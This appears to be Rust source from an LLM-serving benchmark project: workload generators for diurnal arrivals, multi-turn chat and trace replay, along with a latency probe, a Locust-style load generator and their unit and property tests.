    /// Generate `(arrival_us, user_index)` pairs over `[0, horizon)` by
    /// thinning a homogeneous process at the peak rate. Strictly increasing
    /// in time; deterministic for a given `rng` state.
    pub fn generate(&self, horizon: Duration, rng: &mut Rng) -> Vec<(u64, usize)> {
        let horizon_secs = horizon.as_secs_f64();
        let peak = self.mean_rps * (1.0 + self.amplitude.abs());
        if peak <= 0.0 || self.users == 0 {
            return Vec::new();
        }
        let mut out = Vec::new();
        let mut t = 0.0f64;
        loop {
            t += rng.exp(peak);
            if t >= horizon_secs {
                break;
            }
            // Thinning: keep this candidate with probability rate/peak.
            if rng.chance(self.rate_at(t) / peak) {
                out.push(((t * 1e6) as u64, rng.below(self.users as u64) as usize));
            }
        }
        out
    }
}

// ---------------------------------------------------------------------------
// Multi-turn chat workload
// ---------------------------------------------------------------------------

/// N users × K turns over a shared system prompt with growing per-user
/// histories — the paper's dominant workload shape (§2): every chat turn
/// resends the whole conversation, so turn t's prompt embeds turns 1..t-1
/// verbatim. This is exactly the pattern the KV prefix cache converts from
/// O(history) re-prefill into O(new text).
pub struct MultiTurnChat {
    pub users: usize,
    pub turns: usize,
    /// Shared across all users (cross-user prefix reuse).
    pub system_prompt: String,
    /// User-message payload per turn, in bytes (≈ tokens for the byte
    /// tokenizer). Content is distinct per (user, turn), so only the shared
    /// history — never the new text — can hit the cache.
    pub turn_chars: usize,
}

/// Aggregate of one multi-turn run.
#[derive(Debug)]
pub struct MultiTurnResult {
    /// TTFT statistics per turn index (0-based), aggregated over users.
    pub per_turn_ttft: Vec<Stats>,
    pub completed: u64,
    pub errors: u64,
    /// Completed requests per wall-clock second across all users.
    pub rps: f64,
}

impl MultiTurnChat {
    /// Deterministic filler text for `user`'s message at `turn`.
    pub fn user_message(&self, user: usize, turn: usize) -> String {
        let stamp = format!("u{user}t{turn} please continue the analysis ");
        let mut s = String::with_capacity(self.turn_chars + stamp.len());
        while s.len() < self.turn_chars {
            s.push_str(&stamp);
        }
        s.truncate(self.turn_chars.max(1));
        s
    }

    /// Flat prompt for the virtual-time harness ([`crate::stack::SimRequest`]
    /// carries a single prompt string, not a message list): turn `t`'s
    /// prompt is the shared system prompt plus this user's messages
    /// `0..=t` concatenated, so each turn strictly extends the previous
    /// one. That prefix-chain shape is what the KV prefix cache — and
    /// session-affine routing, which keeps a conversation on the replica
    /// holding its chain — converts into cached prompt tokens.
    pub fn sim_prompt(&self, user: usize, turn: usize) -> String {
        let mut s = String::with_capacity(
            self.system_prompt.len() + (turn + 1) * (self.turn_chars + 1),
        );
        s.push_str(&self.system_prompt);
        for t in 0..=turn {
            s.push(' ');
            s.push_str(&self.user_message(user, t));
        }
        s
    }

    /// OpenAI-style message list for `user`'s turn given prior exchanges.
    pub fn messages(&self, user: usize, turn: usize, history: &[(String, String)]) -> Vec<Json> {
        let mut msgs = Vec::with_capacity(2 + 2 * history.len());
        msgs.push(
            Json::obj().set("role", "system").set("content", self.system_prompt.as_str()),
        );
        for (u, a) in history {
            msgs.push(Json::obj().set("role", "user").set("content", u.as_str()));
            msgs.push(Json::obj().set("role", "assistant").set("content", a.as_str()));
        }
        msgs.push(Json::obj().set("role", "user").set("content", self.user_message(user, turn)));
        msgs
    }

    /// Drive all users concurrently, each running its turns sequentially
    /// with the history growing by one exchange per turn. `send` performs
    /// one chat call and returns `(ttft_seconds, assistant_reply)`.
    pub fn run(
        &self,
        send: impl Fn(&[Json]) -> Result<(f64, String), String> + Sync,
    ) -> MultiTurnResult {
        let completed = AtomicU64::new(0);
        let errors = AtomicU64::new(0);
        let per_turn: Mutex<Vec<Vec<f64>>> = Mutex::new(vec![Vec::new(); self.turns]);
        let start = Instant::now();
        std::thread::scope(|s| {
            for user in 0..self.users {
                let send = &send;
                let per_turn = &per_turn;
                let completed = &completed;
                let errors = &errors;
                s.spawn(move || {
                    let mut history: Vec<(String, String)> = Vec::new();
                    for turn in 0..self.turns {
                        let msgs = self.messages(user, turn, &history);
                        match send(&msgs) {
                            Ok((ttft, reply)) => {
                                completed.fetch_add(1, Ordering::Relaxed);
                                per_turn.lock().unwrap()[turn].push(ttft);
                                history.push((self.user_message(user, turn), reply));
                            }
                            Err(_) => {
                                errors.fetch_add(1, Ordering::Relaxed);
                                // Keep the turn structure: an empty reply
                                // still grows the history.
                                history.push((self.user_message(user, turn), String::new()));
                            }
                        }
                    }
                });
            }
        });
        let wall = start.elapsed().as_secs_f64().max(1e-9);
        let per_turn = per_turn.into_inner().unwrap();
        MultiTurnResult {
            per_turn_ttft: per_turn
                .iter()
                .map(|v| if v.is_empty() { stats(&[0.0]) } else { stats(v) })
                .collect(),
            completed: completed.load(Ordering::Relaxed),
            errors: errors.load(Ordering::Relaxed),
            rps: completed.load(Ordering::Relaxed) as f64 / wall,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn probe_stage_diff_column() {
        let r1 = probe_stage("A", "op1", 20, 0.0, || {
            std::thread::sleep(Duration::from_micros(200));
        });
        assert!(r1.agg_avg_ms >= 0.2, "{}", r1.agg_avg_ms);
        assert!((r1.diff_ms - r1.agg_avg_ms).abs() < 1e-9);
        let r2 = probe_stage("B", "op2", 20, r1.agg_avg_ms, || {
            std::thread::sleep(Duration::from_micros(500));
        });
        assert!(r2.diff_ms > 0.0, "stage B adds latency over A");
        assert_eq!(r2.stats.n, 20);
    }

    #[test]
    fn loadgen_counts_and_rps() {
        let gen = LoadGen::new(4, Duration::from_millis(100));
        let result = gen.run(|| {
            std::thread::sleep(Duration::from_micros(100));
            Ok(())
        });
        assert!(result.ok > 50, "ok={}", result.ok);
        assert_eq!(result.errors, 0);
        assert!(result.rps > 500.0, "rps={}", result.rps);
        assert!(result.latency.mean >= 1e-4);
    }

    #[test]
    fn multi_turn_histories_grow_and_ttft_aggregates() {
        let wl = MultiTurnChat {
            users: 3,
            turns: 4,
            system_prompt: "you are a terse assistant".into(),
            turn_chars: 24,
        };
        // Message-count law: turn t carries system + t prior exchanges + 1.
        let calls = Mutex::new(Vec::new());
        let result = wl.run(|msgs| {
            calls.lock().unwrap().push(msgs.len());
            // System prompt first, newest user message last.
            assert_eq!(msgs[0].str_or("role", ""), "system");
            assert_eq!(msgs[msgs.len() - 1].str_or("role", ""), "user");
            Ok((0.005, "reply".into()))
        });
        assert_eq!(result.completed, 3 * 4);
        assert_eq!(result.errors, 0);
        assert_eq!(result.per_turn_ttft.len(), 4);
        assert_eq!(result.per_turn_ttft[0].n, 3, "one sample per user per turn");
        let mut counts = calls.into_inner().unwrap();
        counts.sort_unstable();
        // 3 users × turns 0..4 → msg counts 2, 4, 6, 8 three times each.
        assert_eq!(counts, vec![2, 2, 2, 4, 4, 4, 6, 6, 6, 8, 8, 8]);
        // Distinct users/turns never collide in message text.
        assert_ne!(wl.user_message(0, 1), wl.user_message(1, 1));
        assert_ne!(wl.user_message(0, 1), wl.user_message(0, 2));
    }

    #[test]
    fn sim_prompts_form_a_strict_prefix_chain_per_user() {
        let wl = MultiTurnChat {
            users: 2,
            turns: 5,
            system_prompt: "shared system preamble".into(),
            turn_chars: 40,
        };
        for user in 0..wl.users {
            for turn in 1..wl.turns {
                let prev = wl.sim_prompt(user, turn - 1);
                let cur = wl.sim_prompt(user, turn);
                assert!(
                    cur.starts_with(&prev) && cur.len() > prev.len(),
                    "turn {turn} must strictly extend turn {}",
                    turn - 1
                );
            }
        }
        // Different users share only the system prompt, not the chain.
        assert_ne!(wl.sim_prompt(0, 2), wl.sim_prompt(1, 2));
        assert!(wl.sim_prompt(0, 0).starts_with("shared system preamble"));
    }

    #[test]
    fn diurnal_arrivals_are_deterministic_and_rate_shaped() {
        let wl = DiurnalArrivals {
            users: 1000,
            mean_rps: 20.0,
            amplitude: 0.8,
            period: Duration::from_secs(3600),
        };
        let horizon = Duration::from_secs(3600);
        let a = wl.generate(horizon, &mut Rng::new(42));
        let b = wl.generate(horizon, &mut Rng::new(42));
        assert_eq!(a.len(), b.len());
        assert!(a.iter().zip(&b).all(|(x, y)| x == y), "same seed, same schedule");
        let c = wl.generate(horizon, &mut Rng::new(43));
        assert_ne!(a, c, "different seeds diverge");

        // Total volume ≈ mean_rps × horizon (one full period averages out
        // the modulation).
        let expect = 20.0 * 3600.0;
        assert!(
            (a.len() as f64) > expect * 0.9 && (a.len() as f64) < expect * 1.1,
            "got {} arrivals, expected ≈{expect}",
            a.len()
        );
        // Strictly ordered, in range, users in range.
        for w in a.windows(2) {
            assert!(w[0].0 <= w[1].0);
        }
        assert!(a.iter().all(|&(t, u)| t < 3_600_000_000 && u < 1000));
        // Peak half (middle of the period) sees more traffic than the
        // trough halves combined edges: compare 2nd+3rd quarter vs 1st+4th.
        let q = 3_600_000_000u64 / 4;
        let mid = a.iter().filter(|&&(t, _)| t >= q && t < 3 * q).count();
        let edge = a.len() - mid;
        assert!(mid > edge, "diurnal peak not visible: mid={mid} edge={edge}");
    }

    mod props {
        use super::*;
        use crate::prop_assert;
        use crate::util::prop::run_prop;

        #[test]
        fn diurnal_thinning_never_exceeds_peak_and_replays_per_seed() {
            run_prop("diurnal_peak_bound", 0xD1, 40, |rng| {
                let wl = DiurnalArrivals {
                    users: rng.range(1, 500) as usize,
                    mean_rps: 0.5 + rng.f64() * 30.0,
                    amplitude: rng.f64() * 0.95,
                    period: Duration::from_secs(rng.range(60, 7200)),
                };
                let peak = wl.mean_rps * (1.0 + wl.amplitude.abs());
                // The modulated rate is bounded by the thinning envelope
                // everywhere (sampled across two periods), never negative.
                for _ in 0..64 {
                    let t = rng.f64() * 2.0 * wl.period.as_secs_f64();
                    let r = wl.rate_at(t);
                    prop_assert!(
                        r <= peak + 1e-9,
                        "rate_at({t:.1}) = {r:.4} exceeds peak envelope {peak:.4}"
                    );
                    prop_assert!(r >= -1e-9, "rate_at({t:.1}) = {r:.4} went negative");
                }

                let horizon = Duration::from_secs(rng.range(30, 600));
                let seed = rng.next_u64();
                let a = wl.generate(horizon, &mut Rng::new(seed));
                let b = wl.generate(horizon, &mut Rng::new(seed));
                prop_assert!(a == b, "same seed {seed} produced different schedules");
                prop_assert!(
                    a.windows(2).all(|w| w[0].0 <= w[1].0),
                    "arrivals out of order"
                );
                prop_assert!(
                    a.iter().all(|&(t, u)| {
                        t < horizon.as_micros() as u64 && u < wl.users
                    }),
                    "arrival outside horizon or user range"
                );
                // Volume can't beat the peak envelope by more than Poisson
                // noise: the thinning acceptance ratio is at most 1.
                let budget = peak * horizon.as_secs_f64();
                prop_assert!(
                    (a.len() as f64) <= budget + 6.0 * budget.sqrt() + 10.0,
                    "{} arrivals beats the peak-rate budget {budget:.1}",
                    a.len()
                );
                Ok(())
            });
        }

        #[test]
        fn multiturn_sim_prompts_are_strict_prefix_chains() {
            run_prop("multiturn_prefix_chain", 0xC4, 40, |rng| {
                let wl = MultiTurnChat {
                    users: rng.range(1, 8) as usize,
                    turns: rng.range(2, 10) as usize,
                    system_prompt: "sys ".repeat(rng.range(1, 20) as usize),
                    // >= 2 so the `u{user}` stamp survives truncation and
                    // distinct users stay distinguishable.
                    turn_chars: rng.range(2, 120) as usize,
                };
                let user = rng.below(wl.users as u64) as usize;
                for turn in 1..wl.turns {
                    let prev = wl.sim_prompt(user, turn - 1);
                    let cur = wl.sim_prompt(user, turn);
                    prop_assert!(
                        cur.starts_with(&prev) && cur.len() > prev.len(),
                        "user {user} turn {turn} does not strictly extend turn {}",
                        turn - 1
                    );
                }
                // Chains never collide across users past the shared prefix.
                if wl.users > 1 {
                    let t = wl.turns - 1;
                    prop_assert!(
                        wl.sim_prompt(0, t) != wl.sim_prompt(1, t),
                        "distinct users produced identical histories"
                    );
                }
                Ok(())
            });
        }
    }

    #[test]
    fn loadgen_counts_errors() {
        let gen = LoadGen::new(2, Duration::from_millis(50));
        let flip = AtomicU64::new(0);
        let result = gen.run(|| {
            if flip.fetch_add(1, Ordering::Relaxed) % 2 == 0 {
                Ok(())
            } else {
                Err("boom".into())
            }
        });
        assert!(result.errors > 0);
        assert!(result.ok > 0);
    }
}
