//! Workload generation + latency probing (§6.3's methodology).
//!
//! The paper measures latency with a custom shell script (50 identical
//! probes per stage, Table 1) and throughput with Locust (Table 2). This
//! module is the equivalent harness: [`probe_stage`] produces Table 1 rows
//! and [`LoadGen`] runs closed-loop multi-worker load like a Locust user
//! swarm.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use crate::util::bench::{stats, Stats};

/// One Table-1 row: a named pipeline stage measured over N probes.
#[derive(Debug, Clone)]
pub struct StageResult {
    pub component: String,
    pub operation: String,
    pub stats: Stats,
    /// Aggregated average in ms (this stage includes all previous ones),
    /// mirroring Table 1's "Agg. Avg." column.
    pub agg_avg_ms: f64,
    /// Latency attributable to this stage alone ("Diff." column).
    pub diff_ms: f64,
}

/// Run `n` probes of a stage and build its row. `agg_prev_ms` is the
/// aggregated average of the previous stage (0 for the first).
pub fn probe_stage(
    component: &str,
    operation: &str,
    n: usize,
    agg_prev_ms: f64,
    mut probe: impl FnMut(),
) -> StageResult {
    // One warmup probe to exclude connection setup noise, as a shell
    // script's first curl would be discarded.
    probe();
    let mut samples = Vec::with_capacity(n);
    for _ in 0..n {
        let t = Instant::now();
        probe();
        samples.push(t.elapsed().as_secs_f64());
    }
    let s = stats(&samples);
    let agg_avg_ms = s.mean * 1e3;
    StageResult {
        component: component.to_string(),
        operation: operation.to_string(),
        stats: s,
        agg_avg_ms,
        diff_ms: agg_avg_ms - agg_prev_ms,
    }
}

/// Closed-loop load generator (Locust-style user swarm).
pub struct LoadGen {
    pub workers: usize,
    pub duration: Duration,
}

/// Aggregate result of one load run.
#[derive(Debug, Clone)]
pub struct LoadResult {
    pub rps: f64,
    pub ok: u64,
    pub errors: u64,
    pub latency: Stats,
}

impl LoadGen {
    pub fn new(workers: usize, duration: Duration) -> LoadGen {
        LoadGen { workers, duration }
    }

    /// Hammer `op` from `workers` threads for the configured duration.
    /// `op` returns Ok to count a success.
    pub fn run(&self, op: impl Fn() -> Result<(), String> + Send + Sync) -> LoadResult {
        let stop = AtomicBool::new(false);
        let ok = AtomicU64::new(0);
        let errors = AtomicU64::new(0);
        let latencies: Mutex<Vec<f64>> = Mutex::new(Vec::new());
        let start = Instant::now();
        std::thread::scope(|s| {
            for _ in 0..self.workers {
                s.spawn(|| {
                    let mut local = Vec::new();
                    while !stop.load(Ordering::Relaxed) {
                        let t = Instant::now();
                        match op() {
                            Ok(()) => {
                                ok.fetch_add(1, Ordering::Relaxed);
                                local.push(t.elapsed().as_secs_f64());
                            }
                            Err(_) => {
                                errors.fetch_add(1, Ordering::Relaxed);
                            }
                        }
                    }
                    latencies.lock().unwrap().extend(local);
                });
            }
            s.spawn(|| {
                std::thread::sleep(self.duration);
                stop.store(true, Ordering::Relaxed);
            });
        });
        let elapsed = start.elapsed().as_secs_f64();
        let ok_n = ok.load(Ordering::Relaxed);
        let lat = latencies.into_inner().unwrap();
        LoadResult {
            rps: ok_n as f64 / elapsed,
            ok: ok_n,
            errors: errors.load(Ordering::Relaxed),
            latency: if lat.is_empty() { stats(&[0.0]) } else { stats(&lat) },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn probe_stage_diff_column() {
        let r1 = probe_stage("A", "op1", 20, 0.0, || {
            std::thread::sleep(Duration::from_micros(200));
        });
        assert!(r1.agg_avg_ms >= 0.2, "{}", r1.agg_avg_ms);
        assert!((r1.diff_ms - r1.agg_avg_ms).abs() < 1e-9);
        let r2 = probe_stage("B", "op2", 20, r1.agg_avg_ms, || {
            std::thread::sleep(Duration::from_micros(500));
        });
        assert!(r2.diff_ms > 0.0, "stage B adds latency over A");
        assert_eq!(r2.stats.n, 20);
    }

    #[test]
    fn loadgen_counts_and_rps() {
        let gen = LoadGen::new(4, Duration::from_millis(100));
        let result = gen.run(|| {
            std::thread::sleep(Duration::from_micros(100));
            Ok(())
        });
        assert!(result.ok > 50, "ok={}", result.ok);
        assert_eq!(result.errors, 0);
        assert!(result.rps > 500.0, "rps={}", result.rps);
        assert!(result.latency.mean >= 1e-4);
    }

    #[test]
    fn loadgen_counts_errors() {
        let gen = LoadGen::new(2, Duration::from_millis(50));
        let flip = AtomicU64::new(0);
        let result = gen.run(|| {
            if flip.fetch_add(1, Ordering::Relaxed) % 2 == 0 {
                Ok(())
            } else {
                Err("boom".into())
            }
        });
        assert!(result.errors > 0);
        assert!(result.ok > 0);
    }
}
