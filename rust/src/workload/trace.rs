//! Trace-driven workload replay (DESIGN.md §Workloads).
//!
//! The synthetic generators in [`super`] (Poisson, diurnal thinning,
//! multi-turn chat) answer "does the stack survive a *shape* of load";
//! this module answers "does it survive *this recorded morning*". It has
//! three parts, mirroring dslab's `cloud-plugin-traces` /
//! `faas-synthetic-trace` split:
//!
//! - a tiny line-oriented **arrival-trace format** ([`Trace::parse`] /
//!   [`Trace::serialize`]) — timestamp, user/session, model, prompt
//!   class, output length — with a bundled skeleton recorded-trace file
//!   ([`Trace::bundled_university_morning`]);
//! - a **synthetic scaler** ([`Trace::scaled`]): deterministic,
//!   seed-jittered user multiplication that grows a real trace skeleton
//!   to an arbitrary population without losing its burst structure, plus
//!   Poisson/diurnal segment builders for scenarios no recording covers;
//! - the **replay driver** ([`TraceReplay`]): feeds a trace into
//!   [`SimStack`] through the same event-driven gateway arrival path as
//!   every other virtual-time workload, so a replayed trace is exactly as
//!   seed-deterministic as a generated one.
//!
//! Format (one event per line; `#` comments and blank lines ignored):
//!
//! ```text
//! # at_us user[/session] model class out_tokens
//! 12500000 u42/s42 intel-neural-7b chat 32
//! 13000000 crawler-3 mixtral-8x7b longdoc 64
//! ```
//!
//! Timestamps are non-decreasing virtual microseconds from trace start.
//! [`Trace::serialize`] emits the canonical form; parse→serialize
//! round-trips canonical traces bit-exactly, and malformed input is
//! rejected with a 1-based line number (`tests` + `workload` property
//! tests pin both).

use std::collections::BTreeMap;
use std::fmt;

use crate::stack::{SimRequest, SimStack};
use crate::util::rng::Rng;
use crate::workload::DiurnalArrivals;

/// What kind of prompt an arrival carries. The class picks the prompt
/// *shape* (the trace records only the class, never the text): `chat` is a
/// short interactive turn under a shared assistant preamble, `longdoc` is
/// a prefill-heavy document summarization, `batch` is an offline
/// batch-inference item with a long completion.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum PromptClass {
    Chat,
    LongDoc,
    Batch,
}

impl PromptClass {
    pub const ALL: [PromptClass; 3] = [PromptClass::Chat, PromptClass::LongDoc, PromptClass::Batch];

    pub fn as_str(&self) -> &'static str {
        match self {
            PromptClass::Chat => "chat",
            PromptClass::LongDoc => "longdoc",
            PromptClass::Batch => "batch",
        }
    }

    pub fn parse(s: &str) -> Option<PromptClass> {
        match s {
            "chat" => Some(PromptClass::Chat),
            "longdoc" => Some(PromptClass::LongDoc),
            "batch" => Some(PromptClass::Batch),
            _ => None,
        }
    }

    /// Prompt length in characters (≈ tokens under the byte tokenizer):
    /// chat is a handful of KV pages, longdoc is a prefill-heavy page run,
    /// batch sits between. Sized against the sim engines' paged-KV pool
    /// (`16·batch + 1` pages of 16 tokens): even a worst-case co-resident
    /// mix of classes plus their completions stays inside the pool, so a
    /// well-formed trace can never be killed `kv_exhausted` mid-decode.
    pub fn prompt_chars(&self) -> usize {
        match self {
            PromptClass::Chat => 96,
            PromptClass::LongDoc => 512,
            PromptClass::Batch => 224,
        }
    }

    /// Deterministic prompt text for one arrival. Every class shares a
    /// per-class preamble (cross-user prefix-cache reuse, like a system
    /// prompt), then diverges per `(user, tag)` so only the preamble —
    /// never the payload — can hit another user's cache.
    pub fn prompt(&self, user: &str, tag: u64) -> String {
        let (preamble, stamp) = match self {
            PromptClass::Chat => (
                "you are the kisski cluster assistant; answer tersely. ",
                format!("{user} q{tag}: what is the state of my slurm jobs and the gpu queue "),
            ),
            PromptClass::LongDoc => (
                "summarize the following incident report for the operations log. ",
                format!("{user} doc{tag}: at the indicated time the scheduler observed \
                         elevated queue depth across the gpu partition and began draining "),
            ),
            PromptClass::Batch => (
                "offline batch inference; no interactivity required. ",
                format!("{user} item{tag}: classify the following job script excerpt "),
            ),
        };
        let target = self.prompt_chars();
        let mut s = String::with_capacity(target + stamp.len());
        s.push_str(preamble);
        while s.len() < target {
            s.push_str(&stamp);
        }
        s.truncate(target.max(preamble.len()));
        s
    }
}

impl fmt::Display for PromptClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One recorded arrival.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TraceEvent {
    /// Virtual microseconds from trace start (non-decreasing).
    pub at_us: u64,
    pub user: String,
    /// Conversation id for session-affine routing (`user/session` in the
    /// file; `None` = the bare-user form).
    pub session: Option<String>,
    pub model: String,
    pub class: PromptClass,
    /// Requested completion length in tokens (`max_tokens` on replay).
    pub out_tokens: usize,
}

impl TraceEvent {
    /// Canonical one-line form (the serialize/parse currency).
    pub fn to_line(&self) -> String {
        let who = match &self.session {
            Some(s) => format!("{}/{}", self.user, s),
            None => self.user.clone(),
        };
        format!("{} {} {} {} {}", self.at_us, who, self.model, self.class, self.out_tokens)
    }
}

/// Parse failure, pointing at the offending line (1-based).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TraceParseError {
    pub line: usize,
    pub msg: String,
}

impl fmt::Display for TraceParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "trace line {}: {}", self.line, self.msg)
    }
}

impl std::error::Error for TraceParseError {}

/// An ordered arrival trace: the unit the replay driver consumes and the
/// scenario matrix composes.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Trace {
    pub events: Vec<TraceEvent>,
}

/// Identifier charset for users/sessions/models in the trace file: one
/// whitespace-free token, `/` reserved as the user/session separator.
fn valid_ident(s: &str) -> bool {
    !s.is_empty()
        && s.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '~'))
}

impl Trace {
    pub fn new(events: Vec<TraceEvent>) -> Trace {
        Trace { events }
    }

    pub fn len(&self) -> usize {
        self.events.len()
    }

    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// Last arrival time (0 for an empty trace).
    pub fn horizon_us(&self) -> u64 {
        self.events.last().map(|e| e.at_us).unwrap_or(0)
    }

    /// Parse the line format. Comments (`#`) and blank lines are skipped;
    /// anything else must be a well-formed event line, or the whole parse
    /// fails with the 1-based line number.
    pub fn parse(text: &str) -> Result<Trace, TraceParseError> {
        let mut events = Vec::new();
        let mut prev_us = 0u64;
        for (idx, raw) in text.lines().enumerate() {
            let line = idx + 1;
            let err = |msg: String| TraceParseError { line, msg };
            let trimmed = raw.trim();
            if trimmed.is_empty() || trimmed.starts_with('#') {
                continue;
            }
            let fields: Vec<&str> = trimmed.split_whitespace().collect();
            if fields.len() != 5 {
                return Err(err(format!(
                    "expected 5 fields (at_us user[/session] model class out_tokens), got {}",
                    fields.len()
                )));
            }
            let at_us: u64 = fields[0]
                .parse()
                .map_err(|_| err(format!("bad timestamp {:?}", fields[0])))?;
            if at_us < prev_us {
                return Err(err(format!(
                    "timestamps must be non-decreasing ({at_us} after {prev_us})"
                )));
            }
            let (user, session) = match fields[1].split_once('/') {
                Some((u, s)) => (u, Some(s)),
                None => (fields[1], None),
            };
            if !valid_ident(user) {
                return Err(err(format!("bad user {user:?}")));
            }
            if let Some(s) = session {
                if !valid_ident(s) {
                    return Err(err(format!("bad session {s:?}")));
                }
            }
            if !valid_ident(fields[2]) {
                return Err(err(format!("bad model {:?}", fields[2])));
            }
            let class = PromptClass::parse(fields[3])
                .ok_or_else(|| err(format!("unknown prompt class {:?}", fields[3])))?;
            let out_tokens: usize = fields[4]
                .parse()
                .ok()
                .filter(|&n| n > 0)
                .ok_or_else(|| err(format!("bad out_tokens {:?}", fields[4])))?;
            prev_us = at_us;
            events.push(TraceEvent {
                at_us,
                user: user.to_string(),
                session: session.map(str::to_string),
                model: fields[2].to_string(),
                class,
                out_tokens,
            });
        }
        Ok(Trace { events })
    }

    /// Canonical text form: `parse(serialize(t)) == t` and
    /// `serialize(parse(s)) == s` for canonical `s`, bit-exactly.
    pub fn serialize(&self) -> String {
        let mut out = String::new();
        for e in &self.events {
            out.push_str(&e.to_line());
            out.push('\n');
        }
        out
    }

    /// The bundled recorded-trace skeleton: a quarter hour of university
    /// morning traffic (ramping chat load, a longdoc tail, sporadic batch
    /// items across three model groups). Scenarios scale it up with
    /// [`Trace::scaled`] instead of shipping megabytes of recording.
    pub fn bundled_university_morning() -> Trace {
        Trace::parse(include_str!("traces/university_morning.trace"))
            .expect("bundled trace must parse")
    }

    /// Deterministic synthetic segment: homogeneous Poisson arrivals at
    /// `rate_rps` over `[start_us, end_us)`, drawn from `rng`. Users are
    /// `<prefix><i>` over a pool of `users`; chat arrivals carry their
    /// user as the session (one conversation per user), other classes
    /// carry none.
    #[allow(clippy::too_many_arguments)]
    pub fn poisson(
        rate_rps: f64,
        start_us: u64,
        end_us: u64,
        users: usize,
        user_prefix: &str,
        model: &str,
        class: PromptClass,
        out_tokens: usize,
        rng: &mut Rng,
    ) -> Trace {
        let mut events = Vec::new();
        if rate_rps <= 0.0 || users == 0 || end_us <= start_us {
            return Trace { events };
        }
        let mut t = start_us as f64;
        loop {
            t += rng.exp(rate_rps) * 1e6;
            if t >= end_us as f64 {
                break;
            }
            let user = format!("{user_prefix}{}", rng.below(users as u64));
            events.push(TraceEvent {
                at_us: t as u64,
                user: user.clone(),
                session: (class == PromptClass::Chat).then_some(user),
                model: model.to_string(),
                class,
                out_tokens,
            });
        }
        Trace { events }
    }

    /// Deterministic synthetic segment from the diurnal thinning
    /// generator: [`DiurnalArrivals::generate`] mapped onto trace events.
    pub fn from_diurnal(
        wl: &DiurnalArrivals,
        horizon: std::time::Duration,
        user_prefix: &str,
        model: &str,
        class: PromptClass,
        out_tokens: usize,
        rng: &mut Rng,
    ) -> Trace {
        let events = wl
            .generate(horizon, rng)
            .into_iter()
            .map(|(at_us, u)| {
                let user = format!("{user_prefix}{u}");
                TraceEvent {
                    at_us,
                    user: user.clone(),
                    session: (class == PromptClass::Chat).then_some(user),
                    model: model.to_string(),
                    class,
                    out_tokens,
                }
            })
            .collect();
        Trace { events }
    }

    /// Merge segments into one ordered trace. The sort is stable, so
    /// same-microsecond events keep their segment order — merging the
    /// same segments always yields the same trace.
    pub fn merge(segments: Vec<Trace>) -> Trace {
        let mut events: Vec<TraceEvent> =
            segments.into_iter().flat_map(|t| t.events).collect();
        events.sort_by_key(|e| e.at_us);
        Trace { events }
    }

    /// Scale the user population `mult`× (the dslab
    /// `faas-synthetic-trace` move): every recorded arrival is replayed
    /// by `mult` users — clone 0 keeps the recorded identity, clones
    /// `k ≥ 1` become `user~k` with their arrival jittered by a seeded
    /// uniform draw in `[0, jitter_us]`, so the copies spread instead of
    /// stacking on one microsecond while the recording's burst structure
    /// survives. Deterministic: same trace + `mult` + `seed` ⇒ the same
    /// scaled trace, byte-for-byte.
    pub fn scaled(&self, mult: u32, jitter_us: u64, seed: u64) -> Trace {
        let mut rng = Rng::new(seed);
        let mut events = Vec::with_capacity(self.events.len() * mult.max(1) as usize);
        for e in &self.events {
            for k in 0..mult.max(1) {
                let mut clone = e.clone();
                if k > 0 {
                    clone.user = format!("{}~{k}", e.user);
                    clone.session = e.session.as_ref().map(|s| format!("{s}~{k}"));
                    clone.at_us = e.at_us.saturating_add(rng.below(jitter_us + 1));
                }
                events.push(clone);
            }
        }
        events.sort_by_key(|e| e.at_us);
        Trace { events }
    }
}

// ---------------------------------------------------------------------------
// Replay driver
// ---------------------------------------------------------------------------

/// Feeds a [`Trace`] into a [`SimStack`] through `submit_chat_at` — the
/// same event-driven arrival path every generated workload uses, so a
/// replayed recording inherits the full determinism contract (same seed +
/// same trace ⇒ byte-identical `SimRecord` traces).
#[derive(Debug, Clone, Default)]
pub struct TraceReplay {
    /// Added to every event's `at_us` (recordings start at 0; scenarios
    /// shift them past the cold start).
    pub offset_us: u64,
    /// Per-class end-to-end deadline budgets attached on submit (the
    /// trace records demand, not SLOs — tiers are a replay policy).
    pub class_deadline_ms: BTreeMap<PromptClass, u64>,
}

impl TraceReplay {
    pub fn new(offset_us: u64) -> TraceReplay {
        TraceReplay { offset_us, class_deadline_ms: BTreeMap::new() }
    }

    /// Attach a deadline budget to every arrival of `class`.
    pub fn with_deadline(mut self, class: PromptClass, deadline_ms: u64) -> TraceReplay {
        self.class_deadline_ms.insert(class, deadline_ms);
        self
    }

    /// Materialize one event as the request the gateway will see. `tag`
    /// disambiguates prompt payloads between a user's arrivals (the trace
    /// index on replay).
    pub fn request(&self, e: &TraceEvent, tag: u64) -> SimRequest {
        SimRequest {
            user: e.user.clone(),
            model: e.model.clone(),
            session: e.session.clone(),
            prompt: e.class.prompt(&e.user, tag),
            max_tokens: e.out_tokens,
            deadline_ms: self.class_deadline_ms.get(&e.class).copied(),
        }
    }

    /// Schedule every event; returns the submitted request ids, in trace
    /// order.
    pub fn submit(&self, stack: &SimStack, trace: &Trace) -> Vec<u64> {
        trace
            .events
            .iter()
            .enumerate()
            .map(|(i, e)| {
                stack.submit_chat_at(self.offset_us + e.at_us, self.request(e, i as u64))
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    fn ev(at_us: u64, user: &str, session: Option<&str>) -> TraceEvent {
        TraceEvent {
            at_us,
            user: user.into(),
            session: session.map(Into::into),
            model: "intel-neural-7b".into(),
            class: PromptClass::Chat,
            out_tokens: 16,
        }
    }

    #[test]
    fn parse_serialize_round_trips_bit_exactly() {
